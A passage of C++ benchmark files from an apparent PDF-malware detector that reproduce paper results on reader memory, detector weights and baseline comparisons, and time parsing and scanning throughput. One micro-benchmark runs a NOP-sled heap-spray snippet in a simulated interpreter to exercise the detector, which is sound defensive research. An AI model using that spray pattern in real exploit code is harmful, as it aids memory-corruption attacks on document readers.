            << " JS-bearing docs: header-obfuscated=" << b_header
            << " hex-code=" << b_hex << " empty-objects=" << b_empty
            << " multi-encoding=" << b_multi_enc << "\n";
  return 0;
}
