// Figure 8 reproduction: context-free monitoring is hopeless — reader
// memory grows roughly linearly with the number of open documents, up to
// ~1.6 GB with 20 copies of a large file, and one document triggers an
// internal cache optimization that drops memory at around the 15th copy
// before growth resumes. No single threshold separates this from a spray.
#include "bench_util.hpp"
#include "corpus/builders.hpp"

using namespace pdfshield;

namespace {

support::Bytes make_doc_of_size(std::size_t approx_bytes, std::uint64_t seed) {
  support::Rng rng(seed);
  corpus::DocumentBuilder builder(rng);
  // Each page is ~1.3 KB serialized after compression of ~3 KB prose.
  const int pages = std::max<int>(1, static_cast<int>(approx_bytes / 1060));
  builder.add_pages(pages, 3000);
  return builder.build();
}

}  // namespace

int main() {
  bench::print_header("Figure 8", "Reader memory vs number of open documents (context-free)");

  struct DocSpec {
    const char* label;
    std::size_t bytes;
    bool triggers_optimization;
  };
  // Stand-ins for the paper's four reference documents [3][5][20][29].
  const DocSpec specs[] = {
      {"doc-A (small, ~60 KB)", 60u << 10, false},
      {"doc-B (medium, ~400 KB)", 400u << 10, false},
      {"doc-C (large, ~2 MB, cache-optimized)", 2u << 20, true},
      {"doc-D (xlarge, ~6 MB)", 6u << 20, false},
  };

  support::TextTable table({"copies", "doc-A", "doc-B", "doc-C", "doc-D"});
  std::vector<std::vector<double>> series(4);

  for (int spec_idx = 0; spec_idx < 4; ++spec_idx) {
    const DocSpec& spec = specs[spec_idx];
    const support::Bytes file = make_doc_of_size(spec.bytes, 100 + spec_idx);

    sys::Kernel kernel;
    reader::ReaderConfig cfg;
    if (spec.triggers_optimization) {
      // The Acrobat-internal cache compaction the paper observed on [3]:
      // probe one copy's render memory and size the threshold so the 15th
      // copy crosses it.
      sys::Kernel probe_kernel;
      reader::ReaderSim probe(probe_kernel);
      const std::uint64_t before = probe.process().memory_bytes();
      probe.open_document(file, "probe.pdf");
      const std::uint64_t per_doc = probe.process().memory_bytes() - before;
      cfg.cache_optimization_threshold =
          per_doc * 14 + per_doc / 2;  // between the 14th and 15th copy
    }
    reader::ReaderSim reader(kernel, cfg);
    for (int copy = 1; copy <= 20; ++copy) {
      reader.open_document(file, "copy-" + std::to_string(copy) + ".pdf");
      series[spec_idx].push_back(
          static_cast<double>(reader.process().memory_bytes()));
    }
  }

  for (int copy = 0; copy < 20; ++copy) {
    table.add_row({std::to_string(copy + 1), bench::mb(series[0][copy]),
                   bench::mb(series[1][copy]), bench::mb(series[2][copy]),
                   bench::mb(series[3][copy])});
  }
  std::cout << table.render("Working set while opening N copies");

  // Locate doc-C's optimization dip.
  int dip_at = -1;
  for (std::size_t i = 1; i < series[2].size(); ++i) {
    if (series[2][i] < series[2][i - 1]) dip_at = static_cast<int>(i + 1);
  }
  std::cout << "doc-C cache-optimization dip at copy " << dip_at
            << " (paper observed the drop at the 15th copy of [3])\n";
  std::cout << "takeaway: any context-free threshold between "
            << bench::mb(series[0].back()) << " and " << bench::mb(series[3].back())
            << " misclassifies some workload, motivating JS-context-aware"
               " monitoring.\n";
  return 0;
}
