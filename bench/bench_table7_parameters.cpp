// Table VII reproduction: the detector's parameter configuration
// (normalization rules, weights, threshold), plus an ablation sweep over
// w2 and the threshold showing why (w1, w2, threshold) = (1, 9, 10) is the
// unique small-integer choice enforcing the paper's decision criterion:
// "malicious iff at least one JS-context feature AND any other feature".
#include "bench_util.hpp"

using namespace pdfshield;

namespace {

struct Outcome {
  bool one_injs_only;       // F8 alone
  bool one_injs_one_static; // F8 + one static
  bool two_injs;            // two in-JS features
  bool statics_only;        // five static features, no in-JS
};

Outcome decide(double w1, double w2, double threshold) {
  auto score = [&](int statics, int injs) { return w1 * statics + w2 * injs; };
  return {score(0, 1) >= threshold, score(1, 1) >= threshold,
          score(0, 2) >= threshold, score(5, 0) >= threshold};
}

}  // namespace

int main() {
  bench::print_header("Table VII", "Parameter configuration");

  core::DetectorConfig cfg;
  support::TextTable params({"Parameter", "Value"});
  params.add_row({"F1", "ratio >= 0.2 -> 1, else 0"});
  params.add_row({"F4", "# empty objects >= 1 -> 1, else 0"});
  params.add_row({"F5", "encoding level >= 2 -> 1, else 0"});
  params.add_row({"F8", "in-JS memory >= 100 MB -> 1, else 0"});
  params.add_row({"w1", bench::fmt(cfg.w1, 0)});
  params.add_row({"w2", bench::fmt(cfg.w2, 0)});
  params.add_row({"Threshold", bench::fmt(cfg.threshold, 0)});
  std::cout << params.render("Normalization rules and weights (as shipped)");

  // Ablation: which (w2, threshold) pairs satisfy the decision criterion?
  support::TextTable sweep({"w2", "threshold", "F8 only", "F8+1 static",
                            "2 in-JS", "5 statics only", "criterion"});
  for (double w2 : {5.0, 7.0, 9.0, 11.0}) {
    for (double threshold : {w2, w2 + 1.0, w2 + 2.0}) {
      const Outcome o = decide(1.0, w2, threshold);
      // Criterion: one in-JS alone must NOT fire; in-JS + anything must;
      // statics alone must not.
      const bool ok = !o.one_injs_only && o.one_injs_one_static && o.two_injs &&
                      !o.statics_only;
      sweep.add_row({bench::fmt(w2, 0), bench::fmt(threshold, 0),
                     o.one_injs_only ? "alert" : "-",
                     o.one_injs_one_static ? "alert" : "-",
                     o.two_injs ? "alert" : "-", o.statics_only ? "alert" : "-",
                     ok ? "SATISFIED" : "violated"});
    }
  }
  std::cout << sweep.render("Weight/threshold ablation (w1 = 1)");
  std::cout << "note: any w2 > 5 (the static-feature count) with threshold"
               " w2+1 satisfies the criterion; the paper picks w2=9,"
               " threshold=10.\n";
  return 0;
}
