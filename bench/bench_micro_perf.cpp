// Micro performance suite (google-benchmark): throughput of the hot
// substrate paths. These are regression guards, not paper reproductions —
// the table/figure benches above own those.
#include <benchmark/benchmark.h>

#include "core/jschain.hpp"
#include "core/monitor_codegen.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "flate/zlib.hpp"
#include "js/interp.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"

using namespace pdfshield;

namespace {

support::Bytes sample_pdf(std::size_t pages) {
  support::Rng rng(1);
  corpus::DocumentBuilder builder(rng);
  builder.add_pages(static_cast<int>(pages), 1500);
  builder.set_open_action_js("var v = 1 + 2;");
  return builder.build();
}

void BM_FlateCompress(benchmark::State& state) {
  support::Rng rng(2);
  const std::string text = corpus::lorem_text(rng, static_cast<std::size_t>(state.range(0)));
  const support::Bytes data = support::to_bytes(text);
  for (auto _ : state) {
    benchmark::DoNotOptimize(flate::zlib_compress(data));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_FlateCompress)->Arg(4 << 10)->Arg(64 << 10)->Arg(1 << 20);

void BM_FlateDecompress(benchmark::State& state) {
  support::Rng rng(3);
  const support::Bytes data =
      support::to_bytes(corpus::lorem_text(rng, static_cast<std::size_t>(state.range(0))));
  const support::Bytes packed = flate::zlib_compress(data);
  for (auto _ : state) {
    benchmark::DoNotOptimize(flate::zlib_decompress(packed));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_FlateDecompress)->Arg(4 << 10)->Arg(64 << 10)->Arg(1 << 20);

void BM_PdfParse(benchmark::State& state) {
  const support::Bytes file = sample_pdf(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(pdf::parse_document(file));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(file.size()));
}
BENCHMARK(BM_PdfParse)->Arg(10)->Arg(100)->Arg(500);

void BM_PdfWrite(benchmark::State& state) {
  const pdf::Document doc =
      pdf::parse_document(sample_pdf(static_cast<std::size_t>(state.range(0))));
  for (auto _ : state) {
    benchmark::DoNotOptimize(pdf::write_document(doc));
  }
}
BENCHMARK(BM_PdfWrite)->Arg(10)->Arg(100)->Arg(500);

void BM_JsChainAnalysis(benchmark::State& state) {
  const pdf::Document doc = pdf::parse_document(sample_pdf(200));
  for (auto _ : state) {
    benchmark::DoNotOptimize(core::analyze_js_chains(doc));
  }
}
BENCHMARK(BM_JsChainAnalysis);

void BM_JsInterpreterArithmetic(benchmark::State& state) {
  for (auto _ : state) {
    js::Interpreter in;
    in.run_source("var t = 0; for (var i = 0; i < 5000; i++) t += i * 3 % 7;");
    benchmark::DoNotOptimize(in.globals()->lookup("t"));
  }
}
BENCHMARK(BM_JsInterpreterArithmetic);

void BM_JsSprayLoop(benchmark::State& state) {
  for (auto _ : state) {
    js::Interpreter in;
    in.run_source(
        "var s = unescape('%u9090%u9090');"
        "while (s.length < 262144) s += s;");
    benchmark::DoNotOptimize(in.allocated_bytes());
  }
}
BENCHMARK(BM_JsSprayLoop);

void BM_MonitorCodegen(benchmark::State& state) {
  support::Rng rng(4);
  const core::InstrumentationKey key =
      core::generate_document_key(rng, core::generate_detector_id(rng));
  const std::string script(static_cast<std::size_t>(state.range(0)), 'x');
  for (auto _ : state) {
    benchmark::DoNotOptimize(core::generate_monitor_wrapper(
        script, key, core::EnvelopeRole::kFull, rng));
  }
}
BENCHMARK(BM_MonitorCodegen)->Arg(256)->Arg(4096)->Arg(65536);

void BM_FullFrontEnd(benchmark::State& state) {
  const support::Bytes file = sample_pdf(static_cast<std::size_t>(state.range(0)));
  support::Rng rng(5);
  core::FrontEnd frontend(rng, core::generate_detector_id(rng));
  for (auto _ : state) {
    benchmark::DoNotOptimize(frontend.process(file));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(file.size()));
}
BENCHMARK(BM_FullFrontEnd)->Arg(10)->Arg(100);

}  // namespace

BENCHMARK_MAIN();
