// Micro performance suite (google-benchmark): throughput of the hot
// substrate paths. These are regression guards, not paper reproductions —
// the table/figure benches above own those.
#include <benchmark/benchmark.h>

#include <atomic>
#include <new>

#include "bench_util.hpp"
#include "core/jschain.hpp"
#include "core/monitor_codegen.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "flate/zlib.hpp"
#include "js/interp.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"
#include "pdf/xref.hpp"
#include "support/arena.hpp"
#include "support/checksum.hpp"

// Heap-allocation counter for the parse trajectory: every global operator
// new bumps one relaxed atomic, so allocs-per-document can be gated in CI
// alongside throughput (a copy regression shows up here long before it
// moves the wall clock on a fast machine).
//
// GCC pairs delete calls in this TU against the (not replaced here but
// replaced program-wide) default operator new and warns; the pairing is
// malloc/free on both sides, so the warning is spurious.
#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic ignored "-Wmismatched-new-delete"
#endif
namespace {
std::atomic<std::uint64_t> g_heap_allocs{0};
}  // namespace

void* operator new(std::size_t size) {
  g_heap_allocs.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(size)) return p;
  throw std::bad_alloc();
}
void* operator new(std::size_t size, const std::nothrow_t&) noexcept {
  g_heap_allocs.fetch_add(1, std::memory_order_relaxed);
  return std::malloc(size);
}
void* operator new[](std::size_t size) {
  g_heap_allocs.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(size)) return p;
  throw std::bad_alloc();
}
void operator delete(void* p) noexcept { std::free(p); }
void operator delete(void* p, std::size_t) noexcept { std::free(p); }
void operator delete(void* p, const std::nothrow_t&) noexcept { std::free(p); }
void operator delete[](void* p) noexcept { std::free(p); }
void operator delete[](void* p, std::size_t) noexcept { std::free(p); }

using namespace pdfshield;

namespace {

/// Compressible input: lorem text (long matches, the common PDF case).
support::Bytes text_input(std::size_t size) {
  support::Rng rng(3);
  return support::to_bytes(corpus::lorem_text(rng, size));
}

/// Near-incompressible input: raw RNG bytes (literal-dominated decode).
support::Bytes noise_input(std::size_t size) {
  support::Rng rng(9);
  support::Bytes data(size);
  for (auto& b : data) b = static_cast<std::uint8_t>(rng.below(256));
  return data;
}

support::Bytes sample_pdf(std::size_t pages) {
  support::Rng rng(1);
  corpus::DocumentBuilder builder(rng);
  builder.add_pages(static_cast<int>(pages), 1500);
  builder.set_open_action_js("var v = 1 + 2;");
  return builder.build();
}

void BM_FlateCompress(benchmark::State& state) {
  support::Rng rng(2);
  const std::string text = corpus::lorem_text(rng, static_cast<std::size_t>(state.range(0)));
  const support::Bytes data = support::to_bytes(text);
  for (auto _ : state) {
    benchmark::DoNotOptimize(flate::zlib_compress(data));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_FlateCompress)->Arg(4 << 10)->Arg(64 << 10)->Arg(1 << 20);

void BM_FlateDecompress(benchmark::State& state) {
  const support::Bytes packed =
      flate::zlib_compress(text_input(static_cast<std::size_t>(state.range(0))));
  for (auto _ : state) {
    benchmark::DoNotOptimize(flate::zlib_decompress(packed));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_FlateDecompress)->Arg(4 << 10)->Arg(64 << 10)->Arg(1 << 20);

void BM_FlateDecompressIncompressible(benchmark::State& state) {
  const support::Bytes packed =
      flate::zlib_compress(noise_input(static_cast<std::size_t>(state.range(0))));
  for (auto _ : state) {
    benchmark::DoNotOptimize(flate::zlib_decompress(packed));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_FlateDecompressIncompressible)
    ->Arg(4 << 10)->Arg(64 << 10)->Arg(1 << 20);

void BM_PdfParse(benchmark::State& state) {
  const support::Bytes file = sample_pdf(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(pdf::parse_document(file));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(file.size()));
}
BENCHMARK(BM_PdfParse)->Arg(10)->Arg(100)->Arg(500);

void BM_PdfWrite(benchmark::State& state) {
  const pdf::Document doc =
      pdf::parse_document(sample_pdf(static_cast<std::size_t>(state.range(0))));
  for (auto _ : state) {
    benchmark::DoNotOptimize(pdf::write_document(doc));
  }
}
BENCHMARK(BM_PdfWrite)->Arg(10)->Arg(100)->Arg(500);

void BM_JsChainAnalysis(benchmark::State& state) {
  const pdf::Document doc = pdf::parse_document(sample_pdf(200));
  for (auto _ : state) {
    benchmark::DoNotOptimize(core::analyze_js_chains(doc));
  }
}
BENCHMARK(BM_JsChainAnalysis);

void BM_JsInterpreterArithmetic(benchmark::State& state) {
  for (auto _ : state) {
    js::Interpreter in;
    in.run_source("var t = 0; for (var i = 0; i < 5000; i++) t += i * 3 % 7;");
    benchmark::DoNotOptimize(in.globals()->lookup("t"));
  }
}
BENCHMARK(BM_JsInterpreterArithmetic);

void BM_JsSprayLoop(benchmark::State& state) {
  for (auto _ : state) {
    js::Interpreter in;
    in.run_source(
        "var s = unescape('%u9090%u9090');"
        "while (s.length < 262144) s += s;");
    benchmark::DoNotOptimize(in.allocated_bytes());
  }
}
BENCHMARK(BM_JsSprayLoop);

void BM_MonitorCodegen(benchmark::State& state) {
  support::Rng rng(4);
  const core::InstrumentationKey key =
      core::generate_document_key(rng, core::generate_detector_id(rng));
  const std::string script(static_cast<std::size_t>(state.range(0)), 'x');
  for (auto _ : state) {
    benchmark::DoNotOptimize(core::generate_monitor_wrapper(
        script, key, core::EnvelopeRole::kFull, rng));
  }
}
BENCHMARK(BM_MonitorCodegen)->Arg(256)->Arg(4096)->Arg(65536);

void BM_FullFrontEnd(benchmark::State& state) {
  const support::Bytes file = sample_pdf(static_cast<std::size_t>(state.range(0)));
  support::Rng rng(5);
  core::FrontEnd frontend(rng, core::generate_detector_id(rng));
  for (auto _ : state) {
    benchmark::DoNotOptimize(frontend.process(file));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(file.size()));
}
BENCHMARK(BM_FullFrontEnd)->Arg(10)->Arg(100);

/// Hand-timed flate suite for the `--json` trajectory mode. Kept off
/// google-benchmark so the output format (and therefore the checked-in
/// BENCH_flate.json baselines) is fully under our control.
std::vector<bench::BenchResult> run_flate_json_suite() {
  constexpr std::size_t kSizes[] = {4 << 10, 64 << 10, 1 << 20};
  constexpr double kMinSeconds = 0.2;

  struct Case {
    const char* name;
    support::Bytes (*make_input)(std::size_t);
    bool decompress;
  };
  constexpr Case kCases[] = {
      {"BM_FlateCompress", &text_input, false},
      {"BM_FlateDecompress", &text_input, true},
      {"BM_FlateDecompressIncompressible", &noise_input, true},
  };

  std::vector<bench::BenchResult> results;
  for (const Case& c : kCases) {
    for (std::size_t size : kSizes) {
      const support::Bytes data = c.make_input(size);
      const support::Bytes packed = flate::zlib_compress(data);
      const support::Bytes& input = c.decompress ? packed : data;
      auto run_once = [&] {
        if (c.decompress) {
          benchmark::DoNotOptimize(flate::zlib_decompress(input));
        } else {
          benchmark::DoNotOptimize(flate::zlib_compress(input));
        }
      };
      run_once();  // warm-up (touches pages, builds fixed tables)
      std::size_t iterations = 0;
      bench::Timer timer;
      double elapsed = 0;
      while (elapsed < kMinSeconds || iterations < 3) {
        run_once();
        ++iterations;
        elapsed = timer.seconds();
      }
      bench::BenchResult r;
      r.name = std::string(c.name) + "/" + std::to_string(size);
      r.value = static_cast<double>(size) * static_cast<double>(iterations) /
                elapsed;
      r.unit = "bytes_per_second";
      std::cout << r.name << ": "
                << bench::fmt(r.value / (1024.0 * 1024.0), 1) << " MB/s ("
                << iterations << " iters)\n";
      results.push_back(std::move(r));
    }
  }

  // Checksum kernels: the SIMD-dispatched Adler-32 bounds the zlib verify
  // step of every FlateDecode, and slice-by-8 CRC-32 the identity goldens.
  // Gated separately so a kernel regression surfaces before it drowns in
  // whole-stream numbers.
  {
    constexpr std::size_t kSize = 1 << 20;
    const support::Bytes data = noise_input(kSize);
    struct Kernel {
      const char* name;
      std::uint32_t (*run)(const support::Bytes&);
    };
    const Kernel kernels[] = {
        {"BM_Adler32", [](const support::Bytes& d) {
           return pdfshield::support::adler32(d);
         }},
        {"BM_Crc32", [](const support::Bytes& d) {
           return pdfshield::support::crc32(d);
         }},
    };
    for (const Kernel& k : kernels) {
      benchmark::DoNotOptimize(k.run(data));  // warm-up (tables, pages)
      std::size_t iterations = 0;
      bench::Timer timer;
      double elapsed = 0;
      while (elapsed < kMinSeconds || iterations < 3) {
        benchmark::DoNotOptimize(k.run(data));
        ++iterations;
        elapsed = timer.seconds();
      }
      bench::BenchResult r;
      r.name = std::string(k.name) + "/" + std::to_string(kSize);
      r.value = static_cast<double>(kSize) * static_cast<double>(iterations) /
                elapsed;
      r.unit = "bytes_per_second";
      std::cout << r.name << ": "
                << bench::fmt(r.value / (1024.0 * 1024.0), 1) << " MB/s ("
                << iterations << " iters)\n";
      results.push_back(std::move(r));
    }
  }
  return results;
}

/// Parse/front-end trajectory suite for BENCH_parse.json: document parse
/// throughput plus heap allocations per document. Hand-timed like the
/// flate suite so the checked-in baseline format stays under our control.
std::vector<bench::BenchResult> run_parse_json_suite() {
  constexpr std::size_t kPages[] = {10, 100};
  constexpr double kMinSeconds = 0.2;

  std::vector<bench::BenchResult> results;
  auto push = [&](std::string name, double value, const char* unit) {
    results.push_back({std::move(name), value, unit});
    std::cout << results.back().name << ": " << bench::fmt(value, 4) << " "
              << unit << "\n";
  };

  for (std::size_t pages : kPages) {
    const support::Bytes file = sample_pdf(pages);
    const std::string tag =
        "/pages:" + std::to_string(pages);

    // Parse-only path.
    {
      auto run_once = [&] { benchmark::DoNotOptimize(pdf::parse_document(file)); };
      run_once();  // warm-up (touches pages, fills name interner)
      std::size_t iterations = 0;
      const std::uint64_t allocs0 = g_heap_allocs.load();
      bench::Timer timer;
      double elapsed = 0;
      while (elapsed < kMinSeconds || iterations < 3) {
        run_once();
        ++iterations;
        elapsed = timer.seconds();
      }
      const std::uint64_t allocs =
          g_heap_allocs.load() - allocs0;
      push("BM_ParseDocument" + tag + "/bytes_per_s",
           static_cast<double>(file.size()) *
               static_cast<double>(iterations) / elapsed,
           "bytes_per_second");
      push("BM_ParseDocument" + tag + "/allocs_per_doc",
           static_cast<double>(allocs) / static_cast<double>(iterations),
           "allocs_per_doc");
    }

    // Arena-reuse path: the batch scanner's steady state — one retained
    // arena, reset between documents, so chunk allocations amortize to
    // zero and arena bytes-per-doc measures true per-document footprint.
    {
      auto arena = std::make_shared<pdfshield::support::Arena>();
      double arena_bytes = 0;
      auto run_once = [&] {
        {
          pdf::ParseStats stats;
          benchmark::DoNotOptimize(pdf::parse_document(file, &stats, arena));
        }
        arena_bytes = static_cast<double>(arena->bytes_used());
        arena->reset();
      };
      run_once();  // warm-up: grows the arena to its high-water mark
      std::size_t iterations = 0;
      const std::uint64_t allocs0 = g_heap_allocs.load();
      bench::Timer timer;
      double elapsed = 0;
      while (elapsed < kMinSeconds || iterations < 3) {
        run_once();
        ++iterations;
        elapsed = timer.seconds();
      }
      const std::uint64_t allocs = g_heap_allocs.load() - allocs0;
      push("BM_ParseDocumentReuse" + tag + "/bytes_per_s",
           static_cast<double>(file.size()) *
               static_cast<double>(iterations) / elapsed,
           "bytes_per_second");
      push("BM_ParseDocumentReuse" + tag + "/allocs_per_doc",
           static_cast<double>(allocs) / static_cast<double>(iterations),
           "allocs_per_doc");
      push("BM_ParseDocumentReuse" + tag + "/arena_bytes_per_doc",
           arena_bytes, "arena_bytes_per_doc");
    }

    // Full front-end (parse + features + instrumentation + serialize),
    // self-seeding mode — the batch scanner's per-document unit of work.
    {
      core::FrontEnd frontend("bench-parse-fixed-id");
      auto run_once = [&] { benchmark::DoNotOptimize(frontend.process(file)); };
      run_once();
      std::size_t iterations = 0;
      const std::uint64_t allocs0 = g_heap_allocs.load();
      bench::Timer timer;
      double elapsed = 0;
      while (elapsed < kMinSeconds || iterations < 3) {
        run_once();
        ++iterations;
        elapsed = timer.seconds();
      }
      const std::uint64_t allocs = g_heap_allocs.load() - allocs0;
      push("BM_FrontEnd" + tag + "/bytes_per_s",
           static_cast<double>(file.size()) *
               static_cast<double>(iterations) / elapsed,
           "bytes_per_second");
      push("BM_FrontEnd" + tag + "/allocs_per_doc",
           static_cast<double>(allocs) / static_cast<double>(iterations),
           "allocs_per_doc");
    }
  }

  // Classic xref-table reader: a synthetic spec-exact table isolates the
  // batched 20-byte record parse from document structure, so the fixed-
  // width fast path is gated directly.
  {
    constexpr int kEntries = 20000;
    std::string table = "xref\n0 " + std::to_string(kEntries) + "\n";
    table.reserve(table.size() + static_cast<std::size_t>(kEntries) * 20 + 64);
    char rec[24];
    for (int i = 0; i < kEntries; ++i) {
      std::snprintf(rec, sizeof(rec), "%010d %05d %c\r\n", i * 37 + 15,
                    i % 3, i % 7 == 0 ? 'f' : 'n');
      table.append(rec, 20);
    }
    table += "trailer\n<< /Size " + std::to_string(kEntries) + " >>\n";
    const support::BytesView view(
        reinterpret_cast<const std::uint8_t*>(table.data()), table.size());
    auto run_once = [&] {
      benchmark::DoNotOptimize(pdf::read_xref_section(view, 0));
    };
    run_once();  // warm-up
    std::size_t iterations = 0;
    bench::Timer timer;
    double elapsed = 0;
    while (elapsed < kMinSeconds || iterations < 3) {
      run_once();
      ++iterations;
      elapsed = timer.seconds();
    }
    push("BM_XrefParse/entries:" + std::to_string(kEntries) + "/bytes_per_s",
         static_cast<double>(table.size()) * static_cast<double>(iterations) /
             elapsed,
         "bytes_per_second");
  }
  return results;
}

/// Scans argv for `--json-parse PATH` (the parse-suite trajectory output).
std::string json_parse_output_path(int argc, char** argv) {
  for (int i = 1; i + 1 < argc; ++i) {
    if (std::string(argv[i]) == "--json-parse") return argv[i + 1];
  }
  return {};
}

}  // namespace

int main(int argc, char** argv) {
  const std::string json_parse_path = json_parse_output_path(argc, argv);
  if (!json_parse_path.empty()) {
    bench::bench_to_json(json_parse_path, "parse", run_parse_json_suite());
    return 0;
  }
  const std::string json_path = bench::json_output_path(argc, argv);
  if (!json_path.empty()) {
    bench::bench_to_json(json_path, "flate_micro", run_flate_json_suite());
    return 0;
  }
  benchmark::Initialize(&argc, argv);
  if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 1;
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
