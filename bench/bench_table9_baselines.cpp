// Table IX reproduction: FP/TP comparison against N-grams [17], PJScan [7],
// PDFRate [4], Structural [5], MDScan [9] and Wepawet [18], plus our
// system, all trained/evaluated on the same synthetic corpus split — and a
// mimicry column (the [8] attack) that the paper argues separates
// behaviour-based detection from the static methods.
#include <memory>

#include "baselines/dynamic_baselines.hpp"
#include "baselines/static_baselines.hpp"
#include "bench_util.hpp"
#include "ml/metrics.hpp"

using namespace pdfshield;

int main() {
  bench::print_header("Table IX", "Comparison with existing methods");
  const bench::Scale scale = bench::bench_scale();

  corpus::CorpusConfig cfg;
  cfg.seed = 0xBA5E11;
  corpus::CorpusGenerator gen(cfg);
  std::vector<corpus::Sample> all;
  for (auto& s : gen.generate_benign(scale.benign_with_js)) all.push_back(std::move(s));
  for (auto& s : gen.generate_benign_with_js(scale.benign_with_js / 3)) {
    all.push_back(std::move(s));
  }
  for (auto& s : gen.generate_malicious(scale.malicious)) all.push_back(std::move(s));
  support::Rng rng(11);
  rng.shuffle(all);
  std::vector<corpus::Sample> train, test;
  const std::size_t cut = all.size() * 6 / 10;
  for (std::size_t i = 0; i < all.size(); ++i) {
    (i < cut ? train : test).push_back(std::move(all[i]));
  }

  std::vector<corpus::Sample> mimicry;
  for (std::size_t i = 0; i < 20; ++i) mimicry.push_back(gen.make_mimicry_variant(i));

  struct Row {
    std::string name;
    ml::Metrics metrics;
    std::size_t mimicry_detected = 0;
    double paper_fp, paper_tp;
  };

  std::vector<std::unique_ptr<baselines::Baseline>> detectors;
  detectors.push_back(std::make_unique<baselines::NgramBaseline>());
  detectors.push_back(std::make_unique<baselines::PjscanBaseline>());
  detectors.push_back(std::make_unique<baselines::PdfrateBaseline>());
  detectors.push_back(std::make_unique<baselines::StructuralBaseline>());
  detectors.push_back(std::make_unique<baselines::MdscanBaseline>());
  detectors.push_back(std::make_unique<baselines::WepawetBaseline>());
  detectors.push_back(std::make_unique<baselines::JsStaticBaseline>());
  detectors.push_back(std::make_unique<baselines::OursBaseline>());
  // -1 = the paper reports no number for that method/column (our jsstatic
  // row is an extension beyond Table IX, so both of its columns are N/A).
  const double paper_fp[] = {31, 16, 2, 0.05, -1, -1, -1, 0};
  const double paper_tp[] = {84, 85, 99, 99, 89, 68, -1, 97};

  support::TextTable table({"Method", "False Positive", "True Positive",
                            "Mimicry TP", "paper FP", "paper TP"});
  bench::Timer timer;
  for (std::size_t i = 0; i < detectors.size(); ++i) {
    baselines::Baseline& d = *detectors[i];
    d.train(train);
    ml::Metrics m;
    for (const auto& s : test) {
      const int guess = d.predict(s.data);
      if (s.malicious) {
        guess ? ++m.tp : ++m.fn;
      } else {
        guess ? ++m.fp : ++m.tn;
      }
    }
    std::size_t mim = 0;
    for (const auto& s : mimicry) mim += static_cast<std::size_t>(d.predict(s.data));
    table.add_row({d.name(), bench::fmt(100 * m.fpr(), 2) + "%",
                   bench::fmt(100 * m.tpr(), 1) + "%",
                   std::to_string(mim) + "/" + std::to_string(mimicry.size()),
                   paper_fp[i] < 0 ? "N/A" : bench::fmt(paper_fp[i], 2) + "%",
                   paper_tp[i] < 0 ? "N/A" : bench::fmt(paper_tp[i], 0) + "%"});
  }
  std::cout << table.render("FP/TP on the shared corpus split (" +
                            std::to_string(train.size()) + " train / " +
                            std::to_string(test.size()) + " test)");
  std::cout << "note: malicious TP here counts noise/crash-FN samples as"
               " misses for every method, matching Table VIII accounting.\n";
  std::cout << "wall time: " << bench::fmt(timer.seconds(), 1) << " s\n";
  return 0;
}
