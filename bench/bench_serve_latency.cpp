// Serve-mode latency under open-loop Poisson load. A closed-loop burst
// first calibrates the service's capacity (docs/s with every worker
// saturated); the harness then replays two open-loop phases against a
// fresh service:
//
//   steady:   ~60% of capacity — the provisioned regime. Reported p50/p99
//             response latency and the calibrated capacity are the CI-gated
//             metrics (BENCH_serve.json).
//   overload: ~250% of capacity — the regime admission control exists for.
//             The harness asserts the service answers every request
//             (accepted + rejected == submitted), sheds load explicitly
//             (rejections > 0) and keeps the in-flight bound; rejected and
//             degraded counts are reported as informational metrics.
//
// Open-loop means arrivals do NOT wait for responses — inter-arrival gaps
// are exponential (Poisson process) from a seeded Rng, so a slow service
// faces a growing backlog exactly as it would behind a real spool.
// `--duration S` stretches the steady phase (the nightly TSan soak runs
// minutes, the CI smoke seconds); `--trace PATH` wires the service's trace
// spine up for the soak artifact.
#include <algorithm>
#include <atomic>
#include <cmath>
#include <cstdio>
#include <limits>
#include <mutex>
#include <thread>

#include "bench_util.hpp"
#include "core/scan_service.hpp"

using namespace pdfshield;

namespace {

struct LoadResult {
  std::vector<double> latencies_s;  ///< completed requests only
  std::uint64_t submitted = 0;
  std::uint64_t rejected = 0;
  std::uint64_t responses = 0;  ///< completions + rejections (must == submitted)
};

double percentile(std::vector<double> values, double p) {
  if (values.empty()) return 0.0;
  std::sort(values.begin(), values.end());
  const auto rank = static_cast<std::size_t>(
      p / 100.0 * static_cast<double>(values.size() - 1) + 0.5);
  return values[std::min(rank, values.size() - 1)];
}

std::vector<corpus::Sample> make_corpus(const bench::Scale& scale) {
  corpus::CorpusGenerator gen;
  std::vector<corpus::Sample> samples = gen.generate_benign(scale.benign_with_js);
  for (auto& s : gen.generate_malicious(scale.malicious)) {
    samples.push_back(std::move(s));
  }
  return samples;
}

// Closed-loop capacity: submit the whole corpus, drain, best docs/s of
// `reps`. This is the denominator the open-loop rates are derived from.
double calibrate_capacity(const core::ServeOptions& options,
                          const std::vector<corpus::Sample>& samples,
                          int reps) {
